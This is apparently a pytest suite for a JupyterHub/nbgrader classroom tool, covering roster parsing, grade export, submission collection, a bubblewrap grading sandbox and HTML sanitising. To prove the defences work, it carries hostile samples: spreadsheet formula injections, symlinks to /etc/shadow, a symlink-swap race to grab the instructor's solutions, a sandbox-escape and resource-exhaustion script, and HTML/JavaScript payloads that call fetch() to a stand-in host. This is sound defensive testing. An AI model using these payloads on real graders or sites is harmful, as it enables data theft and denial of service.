"""A class in a box: the course on a real JupyterHub with nbgrader's exchange, end to end.

``test_class_end_to_end`` (root only; in CI it must run, never skip): an instructor and
three student system users (random names, removed at the end, also on failure), the
class written by ``python -m coursetools.classroom setup`` and checked by ``check``, a
roster imported (a malformed one first: refused, nothing written), the real JupyterHub
with configurable-http-proxy on a free loopback port and the local-process spawner,
then lesson 3's homework:

1. the instructor generates and releases it (nbgrader, with a deadline);
2. in headless Chromium each student logs in, opens Lab's Assignments panel, fetches,
   answers (correct = the lesson's solutions; blank; a wrong answer with its check cell
   edited to pass) and submits; the third submits after the deadline;
3. the instructor collects and autogrades; the formgrader (opened in its own tab, as
   nbgrader advises since JupyterHub 4.1 forbids it in an iframe) shows the submissions;
4. feedback is generated, released and fetched by every student (one in the browser);
5. ``nbgrader export`` and ``classroom export-grades`` for Canvas and Moodle.

Expected scores come from the lesson's own nbgrader metadata (points per check cell),
never from the code under test. Screenshots: test-output/classroom/.
"""

from __future__ import annotations

import csv
import io
import os
import pwd
import secrets
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import urllib.request
from datetime import UTC, datetime, timedelta
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT), str(ROOT / "tests")]

from browser_support import CHROMIUM_ARGS, find_chromium, free_port  # noqa: E402
from cgroup_support import cgroup_tree, own_grading_cgroup  # noqa: E402

from coursetools.classroom import load_settings  # noqa: E402
from coursetools.classroom.roster import read_roster  # noqa: E402
from coursetools.classroom.setup import run_as  # noqa: E402
from coursetools.shared.common import CourseToolsError  # noqa: E402
from coursetools.shared.kernels import start_kernel  # noqa: E402

LESSON = ROOT / "notebooks" / "03_general_position.ipynb"
ASSIGNMENT = "03-general-position"
OUTPUT = ROOT / "test-output" / "classroom"
IN_CI = bool(os.environ.get("CI"))
PASSWORD = "class-" + secrets.token_hex(8)
TIMEOUT_MS = 240_000
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


# -- quick checks of the roster parser (no root needed) --------------------------------
GOOD = "id,first name,last name,email\nada,Ada,Lovelace,ada@example.org\nalan,Alan,Turing,alan@example.org\n"


def test_roster_reads_a_good_file() -> None:
    rows = read_roster(io.StringIO(GOOD))
    assert [r.id for r in rows] == ["ada", "alan"]
    assert rows[1].email == "alan@example.org"


@pytest.mark.parametrize("text, message", [
    (GOOD + "bob,Bob,,bob@example.org\n", "line 4: first and last name"),
    (GOOD + "bob,Bob,Marley,bob-at-example.org\n", "line 4: email 'bob-at-example.org'"),
    (GOOD + "ada,Ada,Again,ada2@example.org\n", "line 4: id 'ada' already on line 2"),
    (GOOD + "Bob Smith,Bob,Smith,b@example.org\n", "line 4: id 'Bob Smith' is not a login name"),
    (GOOD + "bob,Bob,Smith\n", "line 4: 3 fields, expected 4"),
    ("name,first,last,mail\nada,Ada,L,a@example.org\n", "line 1: header"),
    ("id,first name,last name,email\n", "no student after the header"),
])
def test_roster_names_the_bad_line(text, message) -> None:
    with pytest.raises(CourseToolsError, match=message):
        read_roster(io.StringIO(text))


def test_settings_refuse_unsafe_choices(tmp_path) -> None:
    from coursetools.classroom.settings import ClassSettings

    base = {"class_dir": tmp_path, "instructor": "teacher", "course_root": tmp_path / "c"}
    with pytest.raises(CourseToolsError, match="needs --test-password"):
        ClassSettings(**base, authenticator="dummy")
    with pytest.raises(CourseToolsError, match="only for --authenticator dummy"):
        ClassSettings(**base, test_password="secret-password")
    with pytest.raises(CourseToolsError, match="user name 'Teacher One'"):
        ClassSettings(**{**base, "instructor": "Teacher One"})
    with pytest.raises(CourseToolsError, match="three different ports"):
        ClassSettings(**base, port=8000, hub_port=8000)


def test_hub_config_is_python_with_pam_by_default(tmp_path) -> None:
    from coursetools.classroom.settings import ClassSettings
    from coursetools.classroom.setup import hub_config_text

    text = hub_config_text(ClassSettings(class_dir=tmp_path, instructor="teacher",
                                         course_root=tmp_path / "c"))
    compile(text, "jupyterhub_config.py", "exec")
    assert 'c.JupyterHub.authenticator_class = "pam"' in text
    assert "DummyAuthenticator" not in text and "dummy" not in text


def test_hub_config_binds_loopback_by_default_and_check_flags_plain_http(tmp_path) -> None:
    from coursetools.classroom.settings import ClassSettings
    from coursetools.classroom.setup import _check_listening, hub_config_text

    base = {"class_dir": tmp_path, "instructor": "teacher", "course_root": tmp_path / "c"}
    default = ClassSettings(**base)
    assert 'c.JupyterHub.bind_url = "http://127.0.0.1:8000"' in hub_config_text(default)
    assert _check_listening(default) == []
    exposed = _check_listening(ClassSettings(**base, ip="0.0.0.0"))
    assert len(exposed) == 1 and "plain HTTP" in exposed[0] and "--ip 127.0.0.1" in exposed[0]
    cert, key = tmp_path / "hub.crt", tmp_path / "hub.key"
    cert.write_text("cert")
    key.write_text("key")
    key.chmod(0o644)
    tls = ClassSettings(**base, ip="0.0.0.0", ssl_cert=str(cert), ssl_key=str(key))
    assert 'bind_url = "https://0.0.0.0:8000"' in hub_config_text(tls)
    assert [p for p in _check_listening(tls) if "readable by others" in p]
    key.chmod(0o600)
    assert _check_listening(tls) == []
    with pytest.raises(CourseToolsError, match="go together"):
        ClassSettings(**base, ssl_cert=str(cert))


def test_setup_refuses_a_system_account_as_instructor(tmp_path) -> None:
    from coursetools.classroom.settings import ClassSettings
    from coursetools.classroom.setup import write_class

    settings = ClassSettings(class_dir=tmp_path / "class", instructor="root", course_root=tmp_path / "c")
    with pytest.raises(CourseToolsError, match="'root' is a system account"):
        write_class(settings, [])
    assert not (tmp_path / "class").exists()


# -- roster and exports: bad input gives one line and changes nothing ---------------------
@pytest.mark.parametrize("sid", ["root", "nobody", "www-data"])
def test_roster_refuses_system_accounts_by_name(sid) -> None:
    with pytest.raises(CourseToolsError, match=f"line 4: id '{sid}' is a system account"):
        read_roster(io.StringIO(GOOD + f"{sid},Sys,Tem,sys@example.org\n"))


def test_system_account_by_uid() -> None:
    from coursetools.classroom.roster import SYSTEM_NAMES, system_account

    low = next(p for p in pwd.getpwall() if 0 < p.pw_uid < 1000 and p.pw_name not in SYSTEM_NAMES)
    assert "system account (uid" in system_account(low.pw_name)
    assert system_account("pc-no-such-user-here") is None


def test_roster_huge_field_is_one_clear_line() -> None:
    text = GOOD + "bob,Bob," + "x" * 1_000_000 + ",bob@example.org\n"
    with pytest.raises(CourseToolsError, match=r"line 4: (not a CSV line|field 3 has)"):
        read_roster(io.StringIO(text))
    quoted = GOOD + 'bob,"Bob' + "y" * 1_000_000 + '",Smith,bob@example.org\n'
    with pytest.raises(CourseToolsError, match=r"line 4: "):
        read_roster(io.StringIO(quoted))


def _gradebook_settings(tmp_path):
    from coursetools.classroom.settings import ClassSettings

    (tmp_path / "course").mkdir()
    os.environ["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"  # alembic
    settings = ClassSettings(class_dir=tmp_path, instructor="teacher", course_root=tmp_path / "course")
    settings.save()
    return settings


def test_roster_imports_add_students(tmp_path) -> None:
    from coursetools.classroom.roster import import_roster

    settings = _gradebook_settings(tmp_path)
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    first.write_text(GOOD)
    second.write_text("id,first name,last name,email\ngrace,Grace,Hopper,grace@example.org\n")
    import_roster(settings, first)
    import_roster(settings, second)
    with settings.roster_file.open() as f:
        allowed = [row["id"] for row in csv.DictReader(f)]
    assert allowed == ["ada", "alan", "grace"]  # the first file's students keep their login


def test_exports_neutralise_formulas(tmp_path) -> None:
    from coursetools.classroom.grades import write_grades
    from coursetools.classroom.roster import import_roster

    settings = _gradebook_settings(tmp_path)
    roster = tmp_path / "r.csv"
    roster.write_text("id,first name,last name,email\n"
                      'eve,=HYPERLINK("http://x"),+Smith,eve@example.org\n'
                      "mal,@SUM(A1),-1+2,mal@example.org\n")
    import_roster(settings, roster)
    for fmt in ("canvas", "moodle"):
        out = write_grades(settings, tmp_path / f"{fmt}.csv", fmt)
        with out.open() as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (fmt, cells)
        assert ("'=HYPERLINK(\"http://x\")" in cells) == (fmt == "moodle")
        assert "'@SUM(A1)" in cells or "'-1+2, @SUM(A1)" in cells


def test_edited_checks_reports_a_corrupted_submission_and_carries_on(tmp_path) -> None:
    from nbgrader.utils import compute_checksum

    from coursetools.classroom.grades import edited_checks

    settings = _gradebook_settings(tmp_path)
    check = nbformat.v4.new_code_cell("assert answer() == 1", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "grade_id": "ex1-check", "points": 1,
        "schema_version": 3}})
    check.metadata.nbgrader["checksum"] = compute_checksum(check)
    release = settings.course_root / "release" / "hw" / "nb.ipynb"
    release.parent.mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(cells=[check]), release)
    for student, text in (("amy", "{ not a notebook"), ("bob", None), ("cat", "edit")):
        path = settings.course_root / "submitted" / student / "hw" / "nb.ipynb"
        path.parent.mkdir(parents=True)
        if text == "{ not a notebook":
            path.write_text(text)
        else:
            nb = nbformat.read(release, as_version=4)
            if text == "edit":
                nb.cells[0].source = "pass"
            nbformat.write(nb, path)
    found = edited_checks(settings, "hw")
    assert [(e.student, e.cell, bool(e.problem)) for e in found] == [
        ("amy", "", True), ("cat", "ex1-check", False)]
    r = classroom(tmp_path, "edited-checks", "hw", check=False)
    assert r.returncode == 0 and "amy: nb: unreadable" in r.stdout, r.stdout + r.stderr
    assert "cat: nb: check cell ex1-check" in r.stdout


# -- collect: only genuine submissions ------------------------------------------------------
def _submission(inbound: Path, student: str, stamp: str) -> Path:
    folder = inbound / f"{student}+hw+{stamp}+abc123"
    folder.mkdir(parents=True)
    (folder / "nb.ipynb").write_text("{}")
    (folder / "timestamp.txt").write_text(stamp)
    return folder


def test_collect_refuses_forged_linked_and_future_submissions(tmp_path) -> None:
    from coursetools.classroom.exchange import parse_stamp, problem_of

    me = pwd.getpwuid(os.geteuid()).pw_name
    other = "nobody" if me != "nobody" else "root"
    now = datetime.now(UTC)
    stamp = (now - timedelta(seconds=30)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    good = _submission(tmp_path, me, stamp)
    assert problem_of(good, me, parse_stamp(stamp), now) is None
    # Named after another student, made by me: refused, whoever the victim.
    forged = _submission(tmp_path / "f", other, stamp)
    assert "belongs to" in problem_of(forged, other, parse_stamp(stamp), now)
    future = "2030-01-01 00:00:00.000000 UTC"
    ahead = _submission(tmp_path / "t", me, future)
    assert "in the future" in problem_of(ahead, me, parse_stamp(future), now)
    old = "2020-01-01 00:00:00.000000 UTC"
    assert "backdated" in problem_of(_submission(tmp_path / "b", me, old), me, parse_stamp(old), now)
    linked = _submission(tmp_path / "l", me, stamp)
    (linked / "shadow").symlink_to("/etc/shadow")
    assert "symbolic link shadow -> /etc/shadow" in problem_of(linked, me, parse_stamp(stamp), now)
    (linked / "shadow").unlink()
    (linked / "timestamp.txt").write_text(old)
    assert "disagrees" in problem_of(linked, me, parse_stamp(stamp), now)
    assert "no user" in problem_of(good, "pc-no-such-user", parse_stamp(stamp), now)


def test_safe_collect_takes_the_latest_genuine_submission(tmp_path, monkeypatch) -> None:
    from nbgrader.coursedir import CourseDirectory

    from coursetools.classroom.exchange import REFUSED_LOG, SafeCollect

    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    me = pwd.getpwuid(os.geteuid()).pw_name
    other = "nobody" if me != "nobody" else "root"
    inbound = tmp_path / "exchange" / "c" / "inbound"
    now = datetime.now(UTC)
    older, newer = (f"{now - timedelta(seconds=s):%Y-%m-%d %H:%M:%S.%f} UTC" for s in (60, 30))
    _submission(inbound, me, older)
    linked = _submission(inbound / "l", me, newer)  # my newer one, with a link: refused
    (linked / "x").symlink_to("/etc/passwd")
    linked.rename(inbound / linked.name)
    _submission(inbound / "t", me, "2030-01-01 00:00:00.000000 UTC").rename(
        inbound / f"{me}+hw+2030-01-01 00:00:00.000000 UTC+abc123")
    _submission(inbound / "f", other, newer).rename(inbound / f"{other}+hw+{newer}+abc123")
    (inbound / f"{me}+hw+garbage+x").mkdir()
    course = tmp_path / "course"
    course.mkdir()
    cd = CourseDirectory(root=str(course), course_id="c", assignment_id="hw")
    collect = SafeCollect(coursedir=cd, authenticator=None, root=str(tmp_path / "exchange"))
    for _ in range(2):  # a second collect reports again but records each folder once
        collect.init_src()
        assert [(r["username"], r["filename"].split("+")[2]) for r in collect.src_records] == [(me, older)]
    lines = (course / REFUSED_LOG).read_text().splitlines()
    assert len(lines) == 4, lines
    assert sum(f"(claims {other}, owned by {me}): names {other} but the folder belongs to {me}" in x
               for x in lines) == 1


def _flip(target: Path, secret: Path, stop, flips: list[int]) -> None:
    """The student's process: ``target`` becomes a link to ``secret`` and back, fast."""
    genuine, link = target.with_name("genuine.tmp"), target.with_name("link.tmp")
    body = target.read_bytes()
    while not stop.is_set():
        link.unlink(missing_ok=True)
        link.symlink_to(secret)
        os.rename(link, target)  # now a link to the instructor's file
        time.sleep(0.002)
        genuine.write_bytes(body)
        os.rename(genuine, target)  # a regular file again
        time.sleep(0.002)
        flips[0] += 1


def test_collect_never_follows_a_link_swapped_in_during_the_copy(tmp_path, monkeypatch) -> None:
    """Issue 54: the check-then-copy race. A student's process swaps their notebook (and
    their whole folder) between the genuine one and a link to the instructor's source
    hundreds of times a second while collect runs again and again: every collected copy is
    the genuine notebook or nothing (refused), never the instructor's file."""
    import threading

    from nbgrader.coursedir import CourseDirectory

    from coursetools.classroom.exchange import SafeCollect

    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    me = pwd.getpwuid(os.geteuid()).pw_name
    course = tmp_path / "course"
    (course / "source" / "hw").mkdir(parents=True)
    secret = course / "source" / "hw" / "nb.ipynb"
    secret.write_text("### BEGIN SOLUTION (the instructor's)")
    inbound = tmp_path / "exchange" / "c" / "inbound"
    stamp = f"{datetime.now(UTC) - timedelta(seconds=5):%Y-%m-%d %H:%M:%S.%f} UTC"
    folder = _submission(inbound, me, stamp)
    (folder / "nb.ipynb").write_text("genuine")
    # A second submission whose whole folder is swapped for a link to the source folder.
    earlier = f"{datetime.now(UTC) - timedelta(seconds=9):%Y-%m-%d %H:%M:%S.%f} UTC"
    other = _submission(inbound / "o", me, earlier)
    moved = inbound / other.name
    other.rename(moved)
    cd = CourseDirectory(root=str(course), course_id="c", assignment_id="hw")
    stop, flips = threading.Event(), [0]

    def flip_folder() -> None:
        real, link = moved.with_name("real.tmp"), moved.with_name("lnk.tmp")
        while not stop.is_set():
            os.rename(moved, real)
            link.symlink_to(secret.parent)
            os.rename(link, moved)
            time.sleep(0.002)
            moved.unlink()
            os.rename(real, moved)  # the folder again
            time.sleep(0.002)

    flippers = [threading.Thread(target=_flip, args=(folder / "nb.ipynb", secret, stop, flips)),
                threading.Thread(target=flip_folder)]
    for t in flippers:
        t.start()
    seen = {"genuine": 0, "nothing": 0}
    rounds, started = 0, time.monotonic()
    try:
        while rounds < 200 or flips[0] < 100:
            shutil.rmtree(course / "submitted", ignore_errors=True)
            collect = SafeCollect(coursedir=cd, authenticator=None, root=str(tmp_path / "exchange"))
            collect.init_src()
            collect.copy_files()
            got = course / "submitted" / me / "hw"
            texts = [p.read_text() for p in got.rglob("*.ipynb")] if got.is_dir() else []
            assert not [t for t in texts if "SOLUTION" in t], f"round {rounds}: collected the source"
            assert not [p for p in got.rglob("*") if p.is_symlink()] if got.is_dir() else True
            seen["genuine" if texts else "nothing"] += 1
            rounds += 1
            assert time.monotonic() - started < 120
    finally:
        stop.set()
        for t in flippers:
            t.join()
    assert flips[0] >= 100 and seen["genuine"] > 0, (flips, seen)


# -- the grading sandbox (real bubblewrap, real kernel) --------------------------------------
PLANTED = r"""
import json, os, subprocess
found = {}
def attempt(name, fn):
    try:
        fn(); found[name] = "done"
    except Exception as exc:
        found[name] = type(exc).__name__
attempt("read_secret", lambda: open(SECRET).read())
attempt("list_hidden", lambda: os.listdir(HIDDEN))
attempt("write_outside", lambda: open(OUTSIDE, "w").write("x"))
attempt("read_shadow", lambda: open("/etc/shadow").read())
attempt("write_scratch", lambda: open("scratch.txt", "w").write("x"))
attempt("allocate_4g", lambda: bytearray(4 * 1024**3))
procs = []
def spawn():
    for _ in range(200):
        procs.append(subprocess.Popen(["sleep", "30"]))
attempt("spawn_200", spawn)
for p in procs:
    p.kill(); p.wait()
found["processes"] = len(procs)
found["uid"] = os.getuid()
def workers():  # issue 54: four workers of 1.5 GiB each, at the same time
    import time
    pids = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            try:  # let the OOM killer take a worker first: the kernel reports the rest
                with open("/proc/self/oom_score_adj", "w") as f:
                    f.write("1000")
            except OSError:
                pass
            try:
                block = b"w" * (1536 * 1024 * 1024)
                time.sleep(3)
                os._exit(0 if len(block) else 1)
            except MemoryError:
                os._exit(3)
        pids.append(pid)
    found["workers_ok"] = sum(os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == 0 for p in pids)
attempt("workers", workers)
def fill_shm():
    with open("/dev/shm/fill", "wb") as f:
        for _ in range(200):
            f.write(b"s" * 1024 * 1024)
attempt("fill_shm", fill_shm)
print("SANDBOX-REPORT " + json.dumps(found))
"""


def run_planted(kernel_dir: Path, cwd: Path, names: dict[str, str]) -> dict:
    """Run PLANTED in the sandbox kernel (as the caller) and return what it reports."""
    import json

    from coursetools.classroom.sandbox import KERNEL_NAME

    code = "".join(f"{k} = {v!r}\n" for k, v in names.items()) + PLANTED
    old = os.environ.get("JUPYTER_PATH")
    os.environ["JUPYTER_PATH"] = str(kernel_dir)
    try:
        km, kc = start_kernel(KERNEL_NAME, cwd=str(cwd), startup_timeout=60)
    finally:
        os.environ.pop("JUPYTER_PATH") if old is None else os.environ.update(JUPYTER_PATH=old)
    out: list[str] = []
    try:
        kc.execute_interactive(code, timeout=120, output_hook=lambda m: out.append(
            m["content"].get("text", "")) if m["msg_type"] == "stream" else None)
    finally:
        km.shutdown_kernel(now=True)
    line = next(x for x in "".join(out).splitlines() if x.startswith("SANDBOX-REPORT "))
    return json.loads(line.split(" ", 1)[1])


def test_sandbox_kernel_hides_the_course_and_limits_the_code(tmp_path, monkeypatch, request) -> None:
    import json

    from coursetools.classroom.sandbox import KERNEL_NAME, kernel_spec

    if shutil.which("bwrap") is None:
        pytest.fail("the grading sandbox needs bwrap (apt-get install bubblewrap)")
    # A course folder inside a folder the sandbox mounts (on PYTHONPATH): --hide covers it.
    mounted = tmp_path / "mounted"
    course = mounted / "course"
    course.mkdir(parents=True)
    (course / "gradebook.db").write_text("grades")
    monkeypatch.setenv("PYTHONPATH", f"{ROOT}{os.pathsep}{mounted}")
    spec = tmp_path / "share" / "kernels" / KERNEL_NAME / "kernel.json"
    spec.parent.mkdir(parents=True)
    from coursetools.classroom.cgroup import delegate, memory_controller

    controller = memory_controller()
    assert controller is not None, "no memory cgroup controller under /sys/fs/cgroup"
    group = controller.course_folder(f"test-{secrets.token_hex(3)}")
    delegate(group, controller.version, os.getuid(), os.getgid())
    request.addfinalizer(lambda: [p.rmdir() for p in cgroup_tree(group)])
    spec.write_text(json.dumps(kernel_spec(sys.executable, [course], group)))
    work = tmp_path / "submission"
    work.mkdir()
    found = run_planted(tmp_path / "share", work, {
        "SECRET": str(course / "gradebook.db"), "HIDDEN": str(course),
        "OUTSIDE": str(mounted / "planted.txt")})
    assert found["read_secret"] == "FileNotFoundError" and found["list_hidden"] == "done", found
    assert found["write_outside"] == "OSError" and not (mounted / "planted.txt").exists(), found
    assert found["read_shadow"] == "FileNotFoundError" and found["write_scratch"] == "done", found
    assert found["allocate_4g"] == "MemoryError" and found["uid"] == 65534, found
    # One limit for the whole kernel: of four 1.5 GiB workers at most one held its block;
    # /dev/shm has a size.
    assert found["workers"] == "done" and found["workers_ok"] <= 1, found
    assert found["fill_shm"] == "OSError", found
    assert not (work / "scratch.txt").exists()  # the scratch is the sandbox's own
    # A symbolic link in the submission: the kernel is never started.
    (work / "shadow").symlink_to("/etc/shadow")
    r = subprocess.run([sys.executable, "-m", "coursetools.classroom.sandbox", "k.json"], cwd=work,
                       capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=str(ROOT)))
    assert r.returncode == 2 and "symbolic link" in r.stderr and "shadow" in r.stderr, r.stderr


def test_cgroup_cleanup_keeps_the_folders_of_running_processes(tmp_path) -> None:
    """Graders run side by side: a folder just made is empty until its process moves in,
    so the cleanup removes only the folders of processes that have ended."""
    from coursetools.classroom.cgroup import remove_finished

    running = subprocess.Popen(["sleep", "30"])
    try:
        ended = 2**22 + 12345  # above the largest pid Linux hands out (pid_max <= 2**22)
        names = [f"answer-{running.pid}", f"answer-{ended}", f"kernel-{ended}"]
        for name in names:
            (tmp_path / name).mkdir()
        remove_finished(tmp_path)
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted([names[0], names[2]])
    finally:
        running.kill()
        running.wait()
    remove_finished(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == [names[2]]  # kernels: enter()'s job


def test_sandbox_kernel_that_sleeps_past_its_wall_clock_is_killed(tmp_path) -> None:
    import json

    from coursetools.classroom.sandbox import KERNEL_NAME, kernel_spec

    spec = kernel_spec(sys.executable, [])
    spec["argv"] += ["--wall-seconds", "8"]
    path = tmp_path / "share" / "kernels" / KERNEL_NAME / "kernel.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(spec))
    old = os.environ.get("JUPYTER_PATH")
    os.environ["JUPYTER_PATH"] = str(tmp_path / "share")
    try:
        km, kc = start_kernel(KERNEL_NAME, cwd=str(tmp_path), startup_timeout=60)
    finally:
        os.environ.pop("JUPYTER_PATH") if old is None else os.environ.update(JUPYTER_PATH=old)
    try:
        kc.execute("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(120)")
        end = time.monotonic() + 60
        while km.is_alive() and time.monotonic() < end:
            time.sleep(0.5)
        assert not km.is_alive(), "the sleeping kernel outlived its wall-clock limit"
    finally:
        km.shutdown_kernel(now=True)


# -- autograde with the class's instructor config (sandbox kernel, checksum rule) -------
def _hw_notebook():
    meta = {"grade": False, "solution": True, "locked": False, "grade_id": "ex1-answer",
            "schema_version": 3}
    answer_cell = nbformat.v4.new_code_cell(
        "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION\n",
        metadata={"nbgrader": meta})
    check = nbformat.v4.new_code_cell(
        "assert double(2) == 4\n### BEGIN HIDDEN TESTS\nassert double(5) == 10\n### END HIDDEN TESTS\n",
        metadata={"nbgrader": {"grade": True, "solution": False, "locked": True,
                               "grade_id": "ex1-check", "points": 2, "schema_version": 3}})
    nb = nbformat.v4.new_notebook(cells=[answer_cell, check])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def test_autograde_in_the_sandbox_warns_only_on_an_edited_check(tmp_path, monkeypatch, request) -> None:
    import json

    from nbgrader.apps import NbGraderAPI
    from traitlets.config.loader import PyFileConfigLoader

    from coursetools.classroom.sandbox import KERNEL_NAME
    from coursetools.classroom.settings import ClassSettings
    from coursetools.classroom.setup import nbgrader_config_text, sandbox_kernel_text

    course = tmp_path / "course"
    (course / "source" / "hw").mkdir(parents=True)
    settings = ClassSettings(class_dir=tmp_path / "class", instructor="teacher", course_root=course,
                             exchange_root=tmp_path / "exchange", course_id=f"t-{secrets.token_hex(3)}")
    own_grading_cgroup(settings, request)
    (course / "nbgrader_config.py").write_text(nbgrader_config_text(settings, "instructor"))
    spec = tmp_path / "share" / "kernels" / KERNEL_NAME / "kernel.json"
    spec.parent.mkdir(parents=True)
    spec.write_text(sandbox_kernel_text(settings))
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path / "share"))
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("PYTHONPATH", str(ROOT))
    nbformat.write(_hw_notebook(), course / "source" / "hw" / "hw.ipynb")
    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    api = NbGraderAPI(config=config)
    assert api.generate_assignment("hw", force=True)["success"]
    released = nbformat.read(course / "release" / "hw" / "hw.ipynb", as_version=4)
    assert "HIDDEN" not in released.cells[1].source  # the cause: the release differs from the source
    work = {"blank": released, "edited": nbformat.from_dict(json.loads(json.dumps(released))),
            "solved": _hw_notebook()}
    work["edited"].cells[0].source = "def double(x):\n    return 4\n"
    work["edited"].cells[1].source = "pass\n"
    logs = {}
    for student, nb in work.items():
        folder = course / "submitted" / student / "hw"
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / "hw.ipynb")
        result = api.autograde("hw", student, force=True)
        assert result["success"], result.get("log")
        logs[student] = result["log"]
    # A symbolic link in a submission (put there by hand: collect refuses them): not graded.
    linked = course / "submitted" / "linked" / "hw"
    linked.mkdir(parents=True)
    nbformat.write(released, linked / "hw.ipynb")
    (linked / "secret.txt").symlink_to(course / "source" / "hw" / "hw.ipynb")
    result = api.autograde("hw", "linked", force=True)
    assert not result["success"] and "secret.txt is a symbolic link" in result["log"], result["log"]
    assert not (course / "autograded" / "linked" / "hw").exists()  # nbgrader removes a failed one
    changed = "Attribute 'checksum' for cell ex1-check has changed"
    assert changed not in logs["blank"] and changed not in logs["solved"], logs
    assert changed in logs["edited"], logs["edited"]
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        scores = {s: gb.find_submission("hw", s).code_score for s in work}
    # The solved one passed the hidden test too, in the sandbox; the edited check was restored.
    assert scores == {"blank": 0, "edited": 0, "solved": 2}, scores


def test_student_html_is_passive_in_every_html_the_instructor_renders() -> None:
    """Issue 54: the instructor's HTML export (the formgrader's pages, the feedback) of a
    notebook carrying each payload holds the payloads' addresses only as text: in no
    attribute, no script. Checked with a parse of the page written here, not the cleaner's."""
    from html.parser import HTMLParser

    from nbconvert import HTMLExporter
    from traitlets.config import Config

    from coursetools.classroom.autograde import NEUTRALISE

    host = "http://payload.invalid"
    code = nbformat.v4.new_code_cell("x", outputs=[
        nbformat.v4.new_output("display_data", {
            "text/html": f"<b>bold</b><script>fetch('{host}/s')</script>"
                         f"<img src=x onerror=\"fetch('{host}')\">"}),
        nbformat.v4.new_output("display_data", {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{host}\')"/>'}),
        nbformat.v4.new_output("display_data", {"application/javascript": f"fetch('{host}/js')"}),
        nbformat.v4.new_output("display_data", {"text/markdown": f"[x](javascript:fetch('{host}'))"}),
        nbformat.v4.new_output("display_data", {"image/png": "iVBORw0KGgo="},
                               metadata={"image/png": {"width": f"1 onerror=fetch('{host}')"}}),
    ])
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell(PAYLOAD_MARKDOWN.replace("HOST", host)), code,
        nbformat.v4.new_raw_cell(f"<script>fetch('{host}/raw')</script>",
                                 metadata={"raw_mimetype": "text/html"})])
    # A pasted image (a cell attachment) stays; one naming a missing attachment is shown as
    # text instead of stopping the page.
    pasted = nbformat.v4.new_markdown_cell("![pasted](attachment:p.png)")
    pasted["attachments"] = {"p.png": {"image/png": "iVBORw0KGgo="}}
    nb.cells += [pasted, nbformat.v4.new_markdown_cell("![gone](attachment:gone.png)")]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    config = Config()
    config.HTMLExporter.preprocessors = [NEUTRALISE]
    class Find(HTMLParser):
        """Payload addresses in attributes or scripts; handlers; active elements."""

        def __init__(self) -> None:
            super().__init__()
            self.active: list[str] = []

        def handle_starttag(self, tag, attrs):
            self.active.extend(f"<{tag} {k}={v}>" for k, v in attrs if v and "payload.invalid" in v)
            self.active.extend(f"<{tag} {k}>" for k, v in attrs if k.startswith("on"))
            if tag in ("base", "iframe", "form") or (tag == "meta" and dict(attrs).get("http-equiv")):
                self.active.append(f"<{tag}>")

        def handle_data(self, data):
            if self.lasttag == "script" and "payload.invalid" in data:
                self.active.append(f"script: {data[:60]}")

    for template in ("lab", "classic"):
        page, _ = HTMLExporter(config=config, template_name=template).from_notebook_node(nb)
        find = Find()
        find.feed(page)
        assert find.active == [], (template, find.active)
        assert 'src="data:image/png;base64,iVBORw0KGgo="' in page and "attachment:gone.png" in page
        assert "A written answer with active content" in page and "<b>bold</b>" in page


def test_setup_refuses_an_exchange_folder_someone_made_first(tmp_path) -> None:
    from coursetools.classroom.settings import ClassSettings
    from coursetools.classroom.setup import EXCHANGE_COURSE_MODES, _make_exchange_course

    if os.geteuid() != 0:
        pytest.skip("chown needs root (the class test runs as root in CI)")
    me, squatter = pwd.getpwuid(0), pwd.getpwnam("nobody")
    settings = ClassSettings(class_dir=tmp_path / "class", instructor="root",
                             course_root=tmp_path / "course", exchange_root=tmp_path / "exchange")
    squatted = settings.exchange_course / "outbound"
    squatted.mkdir(parents=True)
    os.chown(squatted, squatter.pw_uid, squatter.pw_gid)
    with pytest.raises(CourseToolsError, match="outbound belongs to uid 65534, not root: someone made it"):
        _make_exchange_course(settings, me)
    squatted.rmdir()
    made = _make_exchange_course(settings, me)
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in made} == {
        (settings.exchange_course / k).name: m for k, m in EXCHANGE_COURSE_MODES.items()}


def test_check_says_how_to_fix_a_venv_under_root(tmp_path) -> None:
    from coursetools.classroom.settings import ClassSettings
    from coursetools.classroom.setup import check_class

    closed = tmp_path / "closed"
    (closed / "venv" / "bin").mkdir(parents=True)
    closed.chmod(0o700)
    settings = ClassSettings(class_dir=tmp_path / "class", instructor="teacher",
                             course_root=tmp_path / "course", env_bin=closed / "venv" / "bin")
